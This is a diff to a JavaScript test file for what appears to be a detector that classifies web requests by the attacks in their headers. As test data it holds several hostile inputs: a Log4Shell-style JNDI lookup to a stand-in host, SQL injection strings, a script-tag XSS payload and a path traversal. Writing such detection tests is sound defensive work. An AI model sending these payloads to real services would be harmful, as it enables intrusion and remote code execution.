@@ -25,7 +25,18 @@ describe('a request', () => {
 
   it('tells on itself in its headers', () => {
     expect(at('/', { 'user-agent': '${jndi:ldap://evil.example/a}' })).toBe('template');
-    expect(at('/', { cookie: "theme=x' OR '1'='1" })).toBe('sql');
+    expect(at('/', { 'x-note': "x' OR '1'='1" })).toBe('sql');
+  });
+
+  it.each([
+    ['where somebody asks about markup', 'how do I close a <script> tag'],
+    ['that was left for another', '/stories/../x'],
+    ['that quotes an attack', "<script>alert(1)</script> ' OR 1=1 --"],
+  ])('is left alone for the page it comes from and what that has stored: one %s', (_, text) => {
+    const written = encodeURIComponent(text);
+    expect(at('/', { referer: `https://app.example/search?q=${written}` })).toBeUndefined();
+    expect(at('/', { cookie: `last=${written}` })).toBeUndefined();
+    expect(at('/', { cookie: `last=${text}` })).toBeUndefined();
   });
 
   it('is left alone as browsers send it', () => {
